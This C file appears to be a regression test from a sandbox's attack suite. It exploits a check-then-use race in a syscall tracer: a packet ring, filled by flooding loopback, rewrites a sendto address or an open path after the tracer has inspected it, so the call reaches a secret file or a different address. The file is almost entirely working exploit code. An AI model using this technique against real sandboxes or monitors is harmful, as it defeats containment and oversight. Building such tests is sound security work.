/* net_pktring_race: review 34's open finding, closed by ring36 -- a single call whose checked
 * argument lies in a received packet ring's next empty frame while an outsider floods lo.
 *
 * The ring (PACKET_RX_RING, 1024 frames of 2 pages) is made by `give`, a process outside the
 * tree, and handed over by SCM_RIGHTS; the tree maps it MAP_PRIVATE (no stop) and nothing marks
 * it ringed.  Its socket filter keeps only the outsider's big datagrams (incoming: the outgoing
 * copy is ignored), so frame j is filled by the outsider's j-th datagram alone.  The tree maps
 * a private page over each frame's first page (the kernel still writes the ring's own), so an
 * argument can begin there and end in the frame's second page, the ring's, which stays zeros
 * until the datagram lands:
 *   send  a sendto's name: family and port in the private page, sin_addr the ring's first
 *         bytes -- 0.0.0.0 while the frame is empty, 127.127.127.127 once the datagram
 *         (0x7f bytes) fills it;
 *   open  an open's path: DIR (a directory, say secd) in the private page, its NUL the ring's
 *         first byte -- DIR while the frame is empty, DIR//////.../secret.txt once the datagram
 *         (slashes, then "secret.txt") fills it.
 * In a tree of one task, before ring36, the solo shortcut of Tracer._must_hold (and the native
 * loop's path decision) neither copied nor froze such an argument: the tracer read the empty
 * frame, the datagram filled it, and the kernel read the other address or path.
 *
 *   net_pktring_race give KIND UNIXPATH        (outside the tree; floods after the handover)
 *   net_pktring_race send PORT UNIXPATH        (traced; the witness on 127.127.127.127:PORT)
 *   net_pktring_race open DIR UNIXPATH         (traced; ESCAPED when an open gives the secret)
 *
 * Class 2/7 (a writer that is no task: the kernel, through a mapping that did not stop).
 */
#include "attack.h"
#include <arpa/inet.h>
#include <linux/filter.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#define PAGE 4096
#define FRAME (2 * PAGE)
#define FRAMES 1024
#define BIG 6000
#ifndef PACKET_IGNORE_OUTGOING
#define PACKET_IGNORE_OUTGOING 23
#endif

static void give(const char *kind, const char *path) {
    struct sockaddr_un sa; int l = unix_socket_at(path, &sa); unlink(path);
    if (bind(l, (struct sockaddr *)&sa, sizeof sa) < 0 || listen(l, 8) < 0) blocked("listen");
    signal(SIGCHLD, SIG_IGN);
    printf("ready\n"); fflush(stdout);
    int given;
    for (;;) { given = accept(l, NULL, NULL); if (given >= 0 && fork() == 0) break; close(given); }
    int p = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    int version = TPACKET_V2, one = 1;
    setsockopt(p, SOL_PACKET, PACKET_VERSION, &version, sizeof version);
    setsockopt(p, SOL_PACKET, PACKET_IGNORE_OUTGOING, &one, sizeof one);
    struct sock_filter keep[] = {  /* only the flood: frames of BIG bytes or more */
        BPF_STMT(BPF_LD | BPF_W | BPF_LEN, 0),
        BPF_JUMP(BPF_JMP | BPF_JGE | BPF_K, BIG, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, 0xffff),
        BPF_STMT(BPF_RET | BPF_K, 0),
    };
    struct sock_fprog prog = {.len = sizeof keep / sizeof keep[0], .filter = keep};
    if (setsockopt(p, SOL_SOCKET, SO_ATTACH_FILTER, &prog, sizeof prog) < 0) blocked("filter %s", ename(errno));
    struct tpacket_req req = {.tp_block_size = FRAME, .tp_block_nr = FRAMES, .tp_frame_size = FRAME, .tp_frame_nr = FRAMES};
    if (setsockopt(p, SOL_PACKET, PACKET_RX_RING, &req, sizeof req) < 0) blocked("ring %s", ename(errno));
    struct sockaddr_ll ll = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = (int)if_nametoindex("lo")};
    bind(p, (struct sockaddr *)&ll, sizeof ll);
    char byte = 'r', space[CMSG_SPACE(sizeof(int))]; memset(space, 0, sizeof space);
    struct iovec iov = {.iov_base = &byte, .iov_len = 1};
    struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
    struct cmsghdr *h = CMSG_FIRSTHDR(&m); h->cmsg_level = SOL_SOCKET; h->cmsg_type = SCM_RIGHTS; h->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(h), &p, sizeof p);
    sendmsg(given, &m, 0);
    char go; if (read(given, &go, 1) != 1) _exit(0);  /* the tree is ready: flood */
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    static char payload[BIG];
    if (!strcmp(kind, "open")) {
        /* the ring's page begins ~3990 bytes into the payload: slashes up to there and on,
         * then the secret's name (a path's repeated slashes are one) */
        memset(payload, '/', sizeof payload);
        memcpy(payload + 4300, "secret.txt", 11);
    } else {
        memset(payload, 0x7f, sizeof payload);
    }
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9)};
    inet_pton(AF_INET, "127.0.0.3", &to.sin_addr);
    for (int k = 0; k < FRAMES; k++) { sendto(s, payload, sizeof payload, 0, (struct sockaddr *)&to, sizeof to); usleep(300); }
    _exit(0);
}

int main(int argc, char **argv) {
    if (argc != 4) usage("give KIND UNIXPATH | send PORT UNIXPATH | open DIR UNIXPATH");
    const char *mode = argv[1], *path = argv[3];
    if (!strcmp(mode, "give")) give(argv[2], path);
    int opening = !strcmp(mode, "open");
    struct sockaddr_un sa; int u = unix_socket_at(path, &sa);
    if (connect(u, (struct sockaddr *)&sa, sizeof sa) < 0) blocked("connect %s", ename(errno));
    char byte, space[CMSG_SPACE(sizeof(int))];
    struct iovec iov = {.iov_base = &byte, .iov_len = 1};
    struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
    if (recvmsg(u, &m, 0) < 1 || !CMSG_FIRSTHDR(&m)) blocked("recvmsg");
    int p; memcpy(&p, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof p);
    unsigned char *ring = mmap(NULL, (size_t)FRAME * FRAMES, PROT_READ | PROT_WRITE, MAP_PRIVATE, p, 0);
    if (ring == MAP_FAILED) blocked("mmap %s", ename(errno));
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    int port = opening ? 0 : atoi(argv[2]);
    const char *dir = argv[2];
    size_t dlen = strlen(dir);
    if (opening && (dlen == 0 || dlen >= PAGE)) usage("DIR");
    if (write(u, "g", 1) != 1) blocked("go");
    long tries = 0, filled = 0, refused = 0, other = 0;
    for (int j = 0; j < FRAMES; j++) {
        unsigned char *data = ring + (size_t)j * FRAME + PAGE;
        if (data[0]) continue;  /* filled already */
        if (mmap(data - PAGE, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) == MAP_FAILED) blocked("mmap fixed");
        char *name = (char *)data - (opening ? dlen : 4);
        if (opening) {
            memcpy(name, dir, dlen);
        } else {
            uint16_t family = AF_INET, nport = htons((uint16_t)port);
            memcpy(name, &family, 2); memcpy(name + 2, &nport, 2);
        }
        for (int k = 0; k < 3000 && !data[0]; k++) {  /* until the outsider's datagram fills this frame */
            tries++;
            if (opening) {
                int fd = open(name, O_RDONLY | O_CLOEXEC);
                if (fd >= 0 && is_secret_fd(fd))
                    escaped("open read the path %s after its check: the secret (try %ld, frame %d)", fd_name(fd), tries, j);
                if (fd >= 0) { other++; close(fd); } else refused++;
            } else {
                int r = (int)sendto(s, "exfiltrated", 11, 0, (struct sockaddr *)name, sizeof(struct sockaddr_in));
                if (r == 11 && data[0] == 127) filled++;
                else if (r < 0) refused++;
            }
        }
    }
    note("tries %ld, sent as the frame filled %ld, opened another %ld, refused %ld", tries, filled, other, refused);
    blocked("done%s", opening ? "" : " (the witness tells)");
}
